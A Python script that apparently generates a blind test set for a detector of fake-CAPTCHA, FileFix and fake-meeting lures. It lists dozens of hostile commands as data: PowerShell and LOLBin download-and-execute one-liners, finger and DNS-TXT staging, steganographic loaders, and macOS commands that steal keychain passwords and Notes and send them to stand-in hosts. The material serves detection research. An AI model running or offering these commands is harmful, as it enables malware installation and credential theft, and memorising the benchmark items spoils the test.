"""Writes the eleventh blind set, bench/blind/lures-11.jsonl and benign-11.jsonl (bench/blind/README.md,
"Blind-11"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind11.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list, app/, any
case file, misses list or verdict), weighted like the hold-out: lures as a crawl of live fake-CAPTCHA,
fake-error, fake-meeting, fake-document and fake-download pages would capture them, commands as
vendor IOC files list them (with no page), the short obfuscated one-liners other detectors'
fixtures use, and scam, callback, ConsentFix and device-code texts. Every text is our own; lures
use reserved names only (*.test, *.invalid, *.example, the documentation IPv4 ranges) and
fictitious phone numbers in 555 blocks. Benign installers are real projects' published commands
with the page they are published on, none of them in sets 1-10. Not imported by the app or the
bench: the bench reads the jsonl files.
"""

from __future__ import annotations

import codecs
from pathlib import Path

import blindkit
from blindkit import (
    CON,
    EMSP,
    ENSP,
    EXP,
    IDSP,
    NBSP,
    NNBSP,
    RUN,
    TERM,
    UNK,
    ZWSP,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    gzip_b64,
    hex_str,
    ip_int,
    ps_concat,
    ps_format,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-11.jsonl"
BENIGN_OUT = HERE / "benign-11.jsonl"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

LURES = Lures()
lure, ioc = LURES.lure, LURES.ioc

# Verification tails, worded anew (the 13 languages and more), some as REM or :: for cmd.
TAILS = [
    "# Human verification complete - Ray ID 8f2a91c4e0",
    "# Vérification humaine réussie - référence 7C-2210",
    "# Menschliche Bestätigung abgeschlossen (Ref. 4471)",
    "# Verificación humana completada - código 55-318",
    "# Verifica umana completata - codice 2093",
    "# Verificação humana concluída - código 8821",
    "# Menselijke controle voltooid - code 6610",
    "# Weryfikacja człowieka zakończona - kod 3307",
    "# İnsan doğrulaması tamamlandı - kod 9142",
    "# Проверка человека пройдена - код 2718",
    "# 人間であることを確認しました - コード 4410",
    "# 人机验证已完成 - 代码 77310",
    "# تم التحقق البشري - الرمز 5521",
    "# 사람 확인 완료 - 코드 3091",
    "# Ihmisvarmennus valmis - koodi 1188",
    "# Ověření člověka dokončeno - kód 2204",
    "# Ανθρώπινη επαλήθευση ολοκληρώθηκε - 6630",
    "# Xác minh con người hoàn tất - mã 9901",
    "# การยืนยันตัวตนสำเร็จ รหัส 4417",
    "# Verifikasi manusia selesai - kode 8140",
    "# אימות אנושי הושלם - קוד 3358",
    "# मानव सत्यापन पूरा हुआ - कोड 7712",
]


def esc_hex(text: str) -> str:
    """Every byte as a \\xNN escape (bash $'..', printf)."""
    return "".join(f"\\x{b:02x}" for b in text.encode())


def esc_oct(text: str) -> str:
    """Every byte as a \\NNN octal escape (printf)."""
    return "".join(f"\\{b:03o}" for b in text.encode())


def tail(i: int) -> str:
    return TAILS[i % len(TAILS)]


# --- (a) live pages: fake Cloudflare / Turnstile interstitials, Run box ----------------------------

TURNSTILE = [
    (
        "ps-runbox-irm-pipe-iex-ua-hidden",
        "https://www.bergsport-ausruestung.test/cdn-cgi/challenge-platform/",
        "powershell -w h -nop -c \"irm 'https://ts1.marlin-edge.invalid/c.ps1' | iex\"",
    ),
    (
        "ps-runbox-iex-net-webclient-ip",
        "https://blog.quilting-patterns-free.example/2026/11/hexagons/",
        "powershell -NoProfile -WindowStyle 1 \"iex (New-Object Net.WebClient).DownloadString('http://198.51.100.81/v.txt')\"",
    ),
    (
        "ps-runbox-invoke-restmethod-full",
        "https://www.ferienwohnung-ostsee-blick.test/buchen",
        'PowerShell -NonInteractive -c "Invoke-RestMethod https://ts3.glasswing-node.invalid/s | Invoke-Expression"',
    ),
    (
        "ps-runbox-iwr-content-iex-short",
        "https://forum.aquaristik-freunde.example/t/co2-anlage",
        "powershell -w 1 iex(iwr ts4.halyard-sync.test/t -useb).content",
    ),
    (
        "ps-runbox-scriptblock-create-irm",
        "https://www.veterinaria-sanroque.test/citas",
        'powershell -c "& ([scriptblock]::Create((irm https://203.0.113.59/sb)))"',
    ),
    (
        "ps-runbox-start-process-hidden-child",
        "https://recettes.cuisine-du-terroir.example/tartiflette",
        "powershell -c \"Start-Process powershell -WindowStyle Hidden -ArgumentList '-c','irm https://ts6.osprey-lane.invalid/a|iex'\"",
    ),
    (
        "ps-runbox-downloadfile-temp-exe",
        "https://www.lakeside-marina-boats.test/slips",
        'powershell -w h -c "(New-Object Net.WebClient).DownloadFile(\'https://ts7.pumice-grid.example/upd.exe\',\\"$env:TEMP\\upd.exe\\");Start-Process $env:TEMP\\upd.exe"',
    ),
    (
        "ps-runbox-httpclient-getstring",
        "https://www.praxis-dr-lehmann.example/termine",
        "powershell -c \"iex ([System.Net.Http.HttpClient]::new().GetStringAsync('https://ts8.cobalt-weir.test/h').Result)\"",
    ),
    (
        "ps-runbox-pwsh-core",
        "https://www.sushi-bar-kaito.invalid/menu",
        'pwsh -nop -w hidden -c "irm https://ts9.lantern-fjord.example/p7|iex"',
    ),
    (
        "ps-runbox-mshta-wrapped-powershell",
        "https://stream.anime-episodes-hd.test/ep/12",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c irm https://ts10.brine-host.invalid/m|iex"",0:close")',
    ),
    (
        "ps-runbox-encoded-utf16-irm",
        "https://www.ayurveda-retreat-kerala.example/",
        f"powershell -NoP -NonI -W Hidden -e {b64_utf16('irm https://ts11.saltmarsh-cdn.test/e|iex')}",
    ),
    (
        "ps-runbox-iex-replace-url",
        "https://torrents.linux-isos-mirror.test/fedora",
        "powershell -c \"$u='hxxps://ts12.quarry-byte.invalid/r'.Replace('hxxps','https');iex(irm $u)\"",
    ),
    (
        "ps-runbox-irm-then-amsi-comment",
        "https://www.schrebergarten-verein.example/aktuelles",
        'powershell -ep bypass -w hidden -c "$d=irm https://ts13.fennel-drop.test/x;iex $d"',
    ),
    (
        "ps-runbox-cloudflare-wording-cmd",
        "https://www.escape-room-lisboa.test/reservas",
        'cmd /c "powershell -w h -c iex(irm ts14.brackish-io.invalid/cf)"',
    ),
    (
        "ps-runbox-curl-exe-into-iex",
        "https://www.modellbahn-spur-h0.example/shop",
        'powershell -c "iex (curl.exe -s https://ts15.vellum-port.test/c)"',
    ),
    (
        "ps-runbox-iwr-headers-lowercase",
        "https://blog.minimalist-budget.test/posts/no-spend-month",
        "powershell -nop -c \"iwr -useb https://203.0.113.94/api/v2/check -Headers @{'X-Id'='55'}|iex\"",
    ),
]
for i, (technique, page, cmd) in enumerate(TURNSTILE):
    lure(technique, RUN, page, f"{cmd} {tail(i)}")

# --- compromised WordPress sites (the lure injected into a real-looking blog path) ---------------

WP = [
    (
        "wp-injected-mshta-https",
        "https://www.bakery-sourdough-school.example/wp-content/themes/astra/verify.html",
        "mshta https://wp1.tamarind-cdn.test/capt.hta",
    ),
    (
        "wp-injected-msiexec-package-url",
        "https://www.dachdecker-meister-berlin.test/wp-admin/admin-ajax.php?action=chk",
        "msiexec /package https://wp2.orchid-mirror.invalid/Setup.msi /quiet",
    ),
    (
        "wp-injected-cmd-curl-bat",
        "https://www.yoga-studio-sunrise.example/wp-content/plugins/elementor/cap/",
        "cmd /c curl -s -o %TEMP%\\v.bat https://wp3.garnet-route.test/v.bat && %TEMP%\\v.bat",
    ),
    (
        "wp-injected-rundll32-webdav",
        "https://www.gemeinde-unterbach.test/wp-includes/js/check.php",
        "rundll32.exe \\\\wp4.pewter-share.invalid@SSL\\DavWWWRoot\\v.dll,Entry",
    ),
    (
        "wp-injected-ps-irm-docroot",
        "https://www.tienda-ceramica-talavera.example/wp-json/wp/v2/verify",
        'powershell -w h -c "irm https://wp5.sorrel-node.test/wp.txt|iex"',
    ),
    (
        "wp-injected-certutil-split",
        "https://www.kinderarzt-praxis-mueller.invalid/wp-content/uploads/2026/12/c.html",
        "cmd /c certutil -urlcache -split -f https://wp6.juniper-bay.example/u.exe %TEMP%\\u.exe & start %TEMP%\\u.exe",
    ),
    (
        "wp-injected-regsvr32-sct",
        "https://www.barbershop-classic-cuts.test/wp-content/themes/hello/robot.php",
        "regsvr32 /s /n /u /i:https://wp7.thistle-cache.invalid/r.sct scrobj.dll",
    ),
    (
        "wp-injected-bitsadmin-start",
        "https://www.weingut-am-hang.example/wp-content/cache/min/1/",
        "cmd /c bitsadmin /transfer j /download /priority high https://wp8.larch-dl.test/j.exe %APPDATA%\\j.exe && start %APPDATA%\\j.exe",
    ),
    (
        "wp-injected-pwsh-hidden-tls",
        "https://www.nautical-charts-store.invalid/wp-login.php?verify=1",
        'powershell -w hidden -c "[Net.ServicePointManager]::SecurityProtocol=3072;iex(irm https://wp9.tansy-hub.example/t)"',
    ),
    (
        "wp-injected-wscript-js-share",
        "https://www.pizzeria-da-luigi.test/wp-content/plugins/wpforms/verify/",
        "wscript \\\\198.51.100.82\\pub\\check.js",
    ),
    (
        "wp-injected-cscript-vbs-webdav",
        "https://www.fahrschule-schnell.example/wp-content/themes/divi/cf.html",
        "cscript //nologo \\\\wp11.ember-grove.test@SSL\\dav\\v.vbs",
    ),
    (
        "wp-injected-msiexec-ip-qn",
        "https://www.hotel-bellavista-garda.test/wp-content/uploads/verify/",
        "msiexec /i http://203.0.113.95/i.msi /qn",
    ),
]
for i, (technique, page, cmd) in enumerate(WP):
    lure(technique, RUN, page, f"{cmd} {tail(i + 3)}")

# --- new 2025-2026 shapes seen on live pages ------------------------------------------------------

for technique, target, page, text in [
    (
        "nslookup-txt-staging-for",
        RUN,
        "https://verify.cinema-tickets-online.test/seat",
        'cmd /c "for /f "skip=5 tokens=*" %a in (\'nslookup -q=txt st.quill-dns.invalid 198.51.100.55\') do @%a" '
        + tail(1),
    ),
    (
        "nslookup-name-field-pipe",
        RUN,
        "https://check.parcel-redelivery.example/",
        'cmd /c nslookup -type=TXT k2.aster-dns.test 203.0.113.13 | findstr "^\\"" > %TEMP%\\k.cmd && %TEMP%\\k.cmd '
        + tail(2),
    ),
    (
        "finger-pipe-cmd-user",
        RUN,
        "https://www.captcha-secure-check.test/gate",
        "cmd /c finger verify@198.51.100.79 | cmd " + tail(3),
    ),
    (
        "finger-more-skip-cmd",
        RUN,
        "https://meet-join.conference-hall.invalid/room/4412",
        'cmd /c "finger gate@fg2.pelican-host.example | more +2 | cmd" ' + tail(4),
    ),
    (
        "conhost-headless-powershell",
        RUN,
        "https://www.indoor-klettern-halle.test/kurse",
        'conhost.exe --headless powershell -c "irm https://ch1.kelp-store.invalid/h|iex" '
        + tail(5),
    ),
    (
        "conhost-headless-cmd-curl-exe",
        RUN,
        "https://docs-share.contract-review.example/d/2271",
        'conhost --headless cmd /c "curl -sLo %TEMP%\\s.exe https://ch2.gannet-hub.test/s.exe&&%TEMP%\\s.exe" '
        + tail(6),
    ),
    (
        "cache-smuggling-cache-read",
        RUN,
        "https://portal.vpn-client-setup.test/fortinet",
        "powershell -w h -c \"$f=gci $env:LOCALAPPDATA\\Google\\Chrome\\User*Data\\Default\\Cache\\Cache_Data -r|sls -Pattern 'BEGIN-PAYLOAD' -List|select -f 1;$s=[IO.File]::ReadAllText($f.Path);iex $s.Substring($s.IndexOf('BEGIN-PAYLOAD')+13)\" "
        + tail(7),
    ),
    (
        "stego-png-loader-oneliner",
        RUN,
        "https://www.fotowettbewerb-natur.example/abstimmen",
        'powershell -w h -c "$b=(iwr https://sg1.heron-pix.invalid/logo.png -useb).Content;$p=[Text.Encoding]::ASCII.GetString($b[2048..($b.Length-1)]);iex $p" '
        + tail(8),
    ),
    (
        "stego-bitmap-lsb-loader",
        RUN,
        "https://careers.aurora-logistics-jobs.test/apply/8812",
        'powershell -c "Add-Type -A System.Drawing;$i=[Drawing.Bitmap]::FromStream((iwr https://sg2.wren-img.example/bg.png -useb).RawContentStream);$o=foreach($x in 0..899){$i.GetPixel($x,0).B};iex ([Text.Encoding]::ASCII.GetString($o))" '
        + tail(9),
    ),
    (
        "crashfix-browser-crashed",
        RUN,
        "https://www.adblock-ultra-extension.test/crashed",
        'cmd /c start /min powershell -w h -c "irm https://cf1.shoal-data.invalid/restore|iex" :: Chrome stopped unexpectedly - restore your tabs',
    ),
    (
        "crashfix-finger-repair",
        RUN,
        "https://restore.browser-recovery-tool.example/",
        'cmd.exe /c "finger repair@cf2.cormorant-io.test | cmd" REM Browser repair utility',
    ),
    (
        "fake-bsod-restore-ps",
        RUN,
        "https://www.fehlerbehebung-windows-hilfe.test/0x0000007E",
        'powershell -ep bypass -w h -c "irm https://bs1.loam-edge.invalid/fix0x7E|iex" # SYSTEM_THREAD_EXCEPTION_NOT_HANDLED - recovery step 2 of 3',
    ),
    (
        "wt-windows-terminal-steps",
        TERM,
        "https://support-meet.huddle-rooms.example/fix-camera",
        "iex (irm 'https://wt1.dunlin-node.test/camfix.ps1')",
    ),
    (
        "wt-launch-from-runbox",
        RUN,
        "https://www.hausverwaltung-nord.test/mieterportal",
        'wt powershell -nop -c "irm https://wt2.sedge-ops.invalid/p|iex" ' + tail(10),
    ),
    (
        "syncappv-publishing-server",
        RUN,
        "https://www.printable-calendars-2027.example/download",
        "SyncAppvPublishingServer.vbs \"n;(New-Object Net.WebClient).DownloadString('https://ap1.moraine-cdn.test/a')|iex\" "
        + tail(11),
    ),
    (
        "syncappv-exe-ps-via-appv",
        RUN,
        "https://verify.hr-portal-onboarding.invalid/",
        'C:\\Windows\\System32\\SyncAppvPublishingServer.exe "n; iex(irm https://ap2.scree-drop.example/b)" '
        + tail(12),
    ),
    (
        "msiexec-package-url-quiet",
        RUN,
        "https://www.garden-centre-plants.test/verify",
        "msiexec.exe /package https://ms1.fescue-pkg.invalid/Verify.msi /qn " + tail(13),
    ),
    (
        "msiexec-y-register-url-dll",
        RUN,
        "https://www.ski-school-kitzbuehel.example/booking",
        "msiexec /y \\\\ms2.tussock-share.test@SSL\\a\\reg.dll " + tail(14),
    ),
    (
        "curl-exe-into-powershell-stdin",
        RUN,
        "https://www.repair-cafe-network.invalid/events",
        "cmd /c curl.exe -s https://cu1.limpet-cdn.example/p | powershell - " + tail(15),
    ),
    (
        "pcalua-remote-exe",
        RUN,
        "https://www.eisdiele-venezia.test/sorten",
        "pcalua.exe -a \\\\cu2.barnacle-srv.invalid\\s\\update.exe " + tail(16),
    ),
    (
        "explorer-shell-run-hta",
        RUN,
        "https://www.bike-repair-tutorials.example/brakes",
        "explorer.exe https://cu3.drift-cache.test/verify.hta " + tail(17),
    ),
    (
        "ftp-script-runner",
        RUN,
        "https://www.kindergarten-sonnenschein.invalid/anmeldung",
        'cmd /c echo !powershell -w h -c "irm https://cu4.mudflat-io.example/f|iex">%TEMP%\\f.txt&ftp -s:%TEMP%\\f.txt '
        + tail(18),
    ),
    (
        "cmd-start-b-curl-pipe",
        RUN,
        "https://www.pottery-wheel-classes.test/",
        "cmd /c start /b curl -s https://cu5.estuary-hub.invalid/s.cmd -o %PUBLIC%\\s.cmd ^& %PUBLIC%\\s.cmd "
        + tail(19),
    ),
    (
        "forfiles-launch-powershell",
        RUN,
        "https://www.chess-club-openings.example/sicilian",
        'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "powershell -w h -c irm https://cu6.saltpan-cdn.test/ff|iex" '
        + tail(20),
    ),
    (
        "hh-exe-remote-chm",
        RUN,
        "https://verify.freelancer-payments.invalid/",
        "hh.exe https://cu7.tidepool-docs.example/help.chm " + tail(21),
    ),
    (
        "mshta-ip-port-path",
        RUN,
        "https://www.camping-platz-seeblick.test/plaetze",
        "mshta http://198.51.100.27:8080/gate " + tail(0),
    ),
]:
    lure(technique, target, page, text)

# --- fake meeting, document, job, game and "security alert" pages ---------------------------------

for technique, target, page, text in [
    (
        "fake-meet-mic-fix-runbox",
        RUN,
        "https://meet.google-rooms.example/xkq-4471-pzr",
        'powershell -w h -c "irm https://fm1.petrel-av.test/micfix|iex" # Microphone access repaired',
    ),
    (
        "fake-meet-camera-driver-terminal-mac",
        TERM,
        "https://meet.g00gle-conference.test/abc-defg-hij",
        "curl -fsSL https://fm2.curlew-drivers.invalid/camfix.sh | zsh",
    ),
    (
        "fake-teams-audio-runbox-cmd",
        RUN,
        "https://teams.live-meeting-join.example/l/meetup-join/19%3a",
        'cmd /c start /min powershell -nop -c "iwr https://fm3.avocet-media.test/aud.ps1 -useb|iex" REM Teams audio device reset',
    ),
    (
        "fake-teams-new-client-msi",
        RUN,
        "https://teams-download.workplace-hub.invalid/new",
        "msiexec /i https://fm4.plover-soft.example/TeamsBootstrapper.msi /qn",
    ),
    (
        "fake-zoom-update-mac-osascript",
        TERM,
        "https://zoom-us.meeting-update.test/j/88120",
        "osascript -e 'do shell script \"curl -s https://fm5.stilt-apps.invalid/zupd | sh\" with administrator privileges'",
    ),
    (
        "fake-webex-plugin-runbox",
        RUN,
        "https://webex.confer-now.example/meet/j.smith",
        "powershell -c \"iex(New-Object Net.WebClient).DownloadString('https://fm6.godwit-cdn.test/wbx')\" # Webex Meetings plug-in",
    ),
    (
        "fake-docusign-view-runbox",
        RUN,
        "https://docusign.envelope-review.invalid/signing/8812",
        'powershell -w 1 -c "irm https://fd1.vireo-docs.example/view|iex" # DocuSign secure viewer: Envelope 8812-55',
    ),
    (
        "fake-sharepoint-open-explorer",
        EXP,
        "https://contoso-my.sharepoint-files.test/personal/finance/Documents",
        "\\\\fd2.towhee-dav.invalid@SSL\\DavWWWRoot\\Finance\\Q4_Budget.xlsx.lnk",
    ),
    (
        "fake-onedrive-doc-filefix",
        EXP,
        "https://onedrive.file-share-portal.example/view/2271",
        f'powershell -w h -c "irm https://fd3.junco-files.test/od|iex" #{NBSP * 70}C:\\Users\\Shared\\Documents\\Rechnung_2271.pdf',
    ),
    (
        "fake-adobe-reader-plugin",
        RUN,
        "https://view.pdf-online-reader.invalid/doc?id=4410",
        "cmd /c curl -L -o %TEMP%\\AdobePlug.exe https://fd4.bunting-cdn.example/AdobePlug.exe & %TEMP%\\AdobePlug.exe",
    ),
    (
        "fake-job-assessment-linux",
        TERM,
        "https://careers.nordlicht-fintech.test/assessment/3",
        "curl -s https://fj1.vole-labs.invalid/assessment/setup.sh | bash -s -- --candidate 4471",
    ),
    (
        "fake-job-interview-camera-mac",
        TERM,
        "https://interview.talent-bridge-hiring.example/video-check",
        'sudo sh -c "curl -k -o /tmp/vcam https://fj2.marmot-hr.test/vcam_update && chmod +x /tmp/vcam && /tmp/vcam"',
    ),
    (
        "fake-job-interview-node-windows",
        RUN,
        "https://jobs.defi-protocol-careers.invalid/task",
        "cmd /c curl -s https://fj3.gopher-git.example/drv.zip -o %TEMP%\\d.zip && tar -xf %TEMP%\\d.zip -C %TEMP% && node %TEMP%\\drv\\index.js",
    ),
    (
        "fake-game-crack-runbox",
        RUN,
        "https://www.free-game-cracks-2026.test/eldenring-nightreign",
        'powershell -w h -c "irm https://fg1.tern-warez.invalid/crack|iex" # Unlock key: NR-5521-AXQ',
    ),
    (
        "fake-cheat-loader-runbox",
        RUN,
        "https://www.aimbot-undetected.example/cs2",
        'cmd /c curl -s -o %TEMP%\\loader.exe https://fg2.skua-cheats.test/loader.exe && start "" %TEMP%\\loader.exe',
    ),
    (
        "fake-roblox-executor",
        RUN,
        "https://www.roblox-executor-free.invalid/download",
        'powershell -ep bypass -c "iwr https://fg3.puffin-exec.example/ex.ps1 -OutFile $env:TEMP\\ex.ps1; & $env:TEMP\\ex.ps1"',
    ),
    (
        "fake-minecraft-mod-terminal-linux",
        TERM,
        "https://www.minecraft-shaders-pack.test/install",
        "wget -qO- https://fg4.auk-mods.invalid/shaders.sh | sudo bash",
    ),
    (
        "github-issue-security-alert",
        RUN,
        "https://github-security.advisory-notice.example/org/repo/issues/1",
        'powershell -w h -c "irm https://gh1.krill-sec.test/gh-verify|iex" # GitHub Security: verify you are the repository owner',
    ),
    (
        "github-issue-alert-mac",
        TERM,
        "https://githubb-alerts.example/security/advisories/GHSA-55x1",
        '/bin/bash -c "$(curl -fsSL https://gh2.copepod-dl.invalid/scan.sh)"',
    ),
    (
        "github-pages-lookalike-linux",
        TERM,
        "https://gitnub-verify.test/account/verify",
        "curl -sSL https://gh3.isopod-run.example/verify | sh -s -- --token 55ab12",
    ),
    (
        "fake-cloudflare-ddos-mac",
        TERM,
        "https://www.slow-cooker-recipes.invalid/cdn-cgi/challenge",
        "echo 'Y3VybCAtZnNTTCBodHRwczovL2NmMy5hbmNob3Z5LWdhdGUudGVzdC9tIHwgYmFzaA==' | base64 -d | bash".replace(
            "Y3VybCAtZnNTTCBodHRwczovL2NmMy5hbmNob3Z5LWdhdGUudGVzdC9tIHwgYmFzaA==",
            b64("curl -fsSL https://cf3.anchovy-gate.test/m | bash"),
        ),
    ),
    (
        "fake-hcaptcha-runbox-msbuild",
        RUN,
        "https://www.wanderwege-schwarzwald.example/touren",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe \\\\hc1.sprat-build.test\\s\\v.proj "
        + tail(2),
    ),
    (
        "fake-recaptcha-edge-update",
        RUN,
        "https://www.glutenfrei-backen.test/brot",
        'powershell -w h -c "iex(irm https://hc2.dace-upd.invalid/edge)" # Microsoft Edge must be updated to continue',
    ),
]:
    lure(
        technique,
        target,
        page,
        text,
        "malicious",
        "macos" if "mac" in technique else "linux" if "linux" in technique else "windows",
    )

# --- FileFix: Explorer address bar, the command hidden behind a long fake path --------------------

FILEFIX = [
    (
        "https://hr-docs.payroll-share.test/slip",
        'powershell -w h -c "irm https://ff1.gudgeon-io.invalid/x|iex"',
        "C:\\Company\\HR\\Gehaltsabrechnung_Dezember.pdf",
        NBSP * 90,
    ),
    (
        "https://www.facture-en-ligne.example/f/7781",
        "cmd /c curl -s https://ff2.roach-dl.test/b.cmd -o %TEMP%\\b.cmd&%TEMP%\\b.cmd",
        "\\\\serveur-compta\\Factures\\2026\\Facture_7781.pdf",
        EMSP * 60,
    ),
    (
        "https://ayuda.portal-empleados.invalid/nomina",
        "mshta https://ff3.bream-hta.example/n.hta",
        "C:\\Nóminas\\Diciembre\\recibo_nomina.pdf",
        " " * 120,
    ),
    (
        "https://condivisione.documenti-studio.test/contratto",
        'powershell -nop -w h -c "iwr https://ff4.tench-cdn.invalid/c -useb|iex"',
        "C:\\Documenti\\Contratti\\contratto_affitto_2027.docx",
        ENSP * 80,
    ),
    (
        "https://compartilhar.arquivos-nuvem.example/boleto",
        "msiexec /i https://ff5.carp-msi.test/b.msi /qn",
        "C:\\Boletos\\boleto_vencimento_12-2026.pdf",
        IDSP * 50,
    ),
    (
        "https://udostepnij.pliki-firmowe.invalid/umowa",
        'powershell -c "irm 198.51.100.131/u|iex"',
        "C:\\Dokumenty\\Umowy\\umowa_zlecenie_grudzien.pdf",
        NNBSP * 85,
    ),
    (
        "https://delen.bestanden-kantoor.test/offerte",
        'cmd /c start /min conhost --headless powershell -c "irm https://ff7.chub-sync.example/o|iex"',
        "\\\\kantoor-nas\\Offertes\\Offerte_2026-118.pdf",
        (" " + ZWSP) * 60,
    ),
    (
        "https://paylas.dosya-merkezi.example/fatura",
        'powershell -w 1 -c "$x=irm https://ff8.dace-relay.invalid/f;iex $x"',
        "C:\\Belgeler\\Faturalar\\fatura_aralik_2026.pdf",
        "\u2800" * 70,
    ),
    (
        "https://obmen.fajly-ofis.test/dogovor",
        "cmd /c finger doc@203.0.113.119|cmd",
        "C:\\Документы\\Договоры\\договор_поставки.pdf",
        "\u2009" * 100,
    ),
    (
        "https://kyoyu.bunsho-box.invalid/seikyu",
        'powershell -w h -c "iex(irm https://ff10.ayu-docs.example/s)"',
        "C:\\共有\\請求書\\請求書_2026年12月.pdf",
        NBSP * 45 + " " * 45,
    ),
    (
        "https://fenxiang.wenjian-zhongxin.example/hetong",
        "rundll32 \\\\ff11.loach-dav.test@SSL\\w\\h.dll,Start",
        "C:\\文档\\合同\\采购合同_2026.pdf",
        "\u3164" * 60,
    ),
    (
        "https://www.mitarbeiter-dokumente.test/urlaub",
        "explorer \\\\ff12.minnow-share.invalid@SSL\\DavWWWRoot\\Urlaubsantrag.pdf.exe",
        "C:\\Personal\\Urlaubsantrag_2027.pdf",
        "\u200a" * 110,
    ),
]
for source, cmd, path, pad in FILEFIX:
    lure("filefix-padded-path", EXP, source, f"{cmd} #{pad}{path}")

lure(
    "filefix-webdav-path-only",
    EXP,
    "https://share.legal-notice-docs.example/case/55",
    "\\\\fx1.sculpin-dav.test@SSL\\DavWWWRoot\\Court_Notice_55.pdf.js",
)
lure(
    "filefix-search-ms-uri",
    EXP,
    "https://www.tax-refund-portal.invalid/claim",
    "search-ms:query=Refund&crumb=location:\\\\fx2.goby-share.example@SSL\\DavWWWRoot\\refund&displayname=Downloads",
)
lure(
    "filefix-file-uri-remote-hta",
    EXP,
    "https://www.scanned-documents-center.test/s/4471",
    "file://fx3.blenny-files.invalid@SSL/DavWWWRoot/Scan_4471.hta",
)

# --- macOS: paste into Terminal (AMOS / Odyssey / Atomic-style pages, fake apps and Homebrew) ------


def mac(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "macos")


for technique, source, text in [
    (
        "mac-fake-homebrew-lookalike",
        "https://brew-sh.install-guide.test/",
        '/bin/bash -c "$(curl -fsSL https://mb1.haddock-raw.invalid/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "mac-fake-homebrew-base64-line",
        "https://www.homebrew-macos-setup.example/",
        f"echo {b64('curl -fsSL https://mb2.pollock-cdn.test/brew | bash')} | base64 --decode | /bin/bash",
    ),
    (
        "mac-odyssey-curl-zsh-c",
        "https://www.mac-cleaner-pro-free.invalid/download",
        'zsh -c "$(curl -sfL https://mb3.hake-stage.example/mc)"',
    ),
    (
        "mac-amos-dmg-hdiutil",
        "https://www.video-converter-mac.test/get",
        "cd /tmp && curl -sO https://mb4.cusk-apps.invalid/VideoPro.dmg && hdiutil attach -nobrowse VideoPro.dmg && cp -R /Volumes/VideoPro/VideoPro.app /Applications && xattr -d com.apple.quarantine /Applications/VideoPro.app && open /Applications/VideoPro.app",
    ),
    (
        "mac-osascript-display-dialog-password",
        "https://support.icloud-quota-notice.example/fix",
        'osascript -e \'set p to text returned of (display dialog "macOS needs your password to repair iCloud" default answer "" with hidden answer)\' -e \'do shell script "curl -s -X POST -d pw=" & p & " https://mb5.ling-post.test/p"\'',
    ),
    (
        "mac-curl-output-chmod-run",
        "https://www.free-vpn-mac-client.invalid/install",
        "curl -fsSLo /tmp/vpnd https://mb6.grouper-vpn.example/vpnd && chmod +x /tmp/vpnd && /tmp/vpnd &",
    ),
    (
        "mac-nohup-background-bash",
        "https://www.ai-image-studio-mac.test/beta",
        "nohup bash -c 'curl -s https://mb7.snapper-ai.invalid/a | bash' >/dev/null 2>&1 &",
    ),
    (
        "mac-python3-urllib-exec",
        "https://developer-tools.xcode-helper.example/cli",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://mb8.tilefish-dev.test/x.py').read())\"",
    ),
    (
        "mac-launchctl-plist-download",
        "https://www.menubar-weather-app.invalid/setup",
        "curl -so ~/Library/LaunchAgents/com.apple.updater.plist https://mb9.wrasse-cfg.example/u.plist && launchctl load -w ~/Library/LaunchAgents/com.apple.updater.plist",
    ),
    (
        "mac-security-find-generic-password",
        "https://verify.apple-id-locked.test/unlock",
        "security find-generic-password -wa 'Chrome Safe Storage' | curl -s -d @- https://mb10.goby-key.invalid/k",
    ),
    (
        "mac-ditto-exfil-notes",
        "https://www.notes-backup-helper.example/backup",
        "ditto -c -k --sequesterRsrc ~/Library/Group\\ Containers/group.com.apple.notes /tmp/n.zip && curl -F f=@/tmp/n.zip https://mb11.shad-up.test/n",
    ),
    (
        "mac-sudo-spctl-disable-curl",
        "https://www.logic-pro-crack-free.invalid/install",
        "sudo spctl --master-disable && curl -fsSL https://mb12.alewife-cr.example/lp.sh | sudo bash",
    ),
    (
        "mac-printf-hex-sh",
        "https://www.ledger-live-mac-update.test/",
        f"printf '{esc_hex('curl -s https://mb13.menhaden-io.invalid/l|sh')}' | sh",
    ),
    (
        "mac-gunzip-base64-bash",
        "https://www.photo-editor-mac-free.example/",
        f"echo '{gzip_b64('curl -sL https://mb14.sardine-px.test/p | bash')}' | base64 -D | gunzip | bash",
    ),
    (
        "mac-fake-cursor-ai-extension",
        "https://cursor-ai.extension-market.invalid/install",
        "curl -fsSL https://mb15.anchoveta-ext.example/cursor-helper.sh | bash -s -- --auto",
    ),
    (
        "mac-fake-chatgpt-desktop",
        "https://chatgpt-desktop-mac.dl-portal-hub.test/",
        'sudo /bin/sh -c "$(curl -fsSL https://mb16.bonito-gpt.invalid/install)"',
    ),
    (
        "mac-atomic-dscl-verify",
        "https://www.macos-sonoma-update.example/verify",
        'read -s -p \'Password: \' P; dscl . -authonly "$USER" "$P" && curl -s -d "u=$USER&p=$P" https://mb17.skipjack-srv.test/v',
    ),
    (
        "mac-osascript-remote-applescript",
        "https://www.safari-extension-adblock.invalid/",
        "curl -s https://mb18.wahoo-scpt.example/s.scpt | osascript",
    ),
    (
        "mac-eval-curl-subshell",
        "https://www.pdf-merge-mac.test/download",
        'eval "$(curl -fsL https://mb19.tarpon-pdf.invalid/m)"',
    ),
    (
        "mac-bash-process-substitution",
        "https://www.figma-fonts-installer.example/",
        "bash <(curl -sL https://mb20.mullet-fonts.test/f.sh)",
    ),
    (
        "mac-telegram-desktop-fix",
        "https://telegram-mac.session-restore.invalid/",
        "curl -sfL https://mb21.pompano-tg.example/restore | sh && killall Telegram",
    ),
    (
        "mac-open-a-terminal-command-file",
        "https://www.spotify-premium-mac.test/unlock",
        "curl -so /tmp/unlock.command https://mb22.drum-sp.invalid/unlock.command && chmod +x /tmp/unlock.command && open /tmp/unlock.command",
    ),
    (
